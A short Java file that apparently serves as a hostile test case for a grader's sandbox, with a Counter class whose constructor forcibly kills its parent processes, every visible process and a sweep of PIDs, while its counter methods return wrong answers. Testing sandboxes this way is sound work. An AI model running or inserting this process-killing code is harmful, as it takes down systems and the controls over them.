// story: Kills every process that it can see, its ancestors among them, so that nobody is left to say no.
// exercise: lost-update
// attacks: counts, no-update-is-lost
// verdict: WRONG_ANSWER | RUNTIME_ERROR | SECURITY_VIOLATION
// file: Counter.java
class Counter {
  Counter() {
    for (var at = ProcessHandle.current().parent(); at.isPresent(); at = at.get().parent()) {
      at.get().destroyForcibly();
    }
    ProcessHandle.allProcesses().filter(it -> it.pid() != ProcessHandle.current().pid()).forEach(ProcessHandle::destroyForcibly);
    for (long pid = 1; pid < 70_000; pid++) {
      if (pid != ProcessHandle.current().pid()) {
        ProcessHandle.of(pid).ifPresent(ProcessHandle::destroyForcibly);
      }
    }
  }

  void increment() {}

  long value() {
    return -1;
  }
}
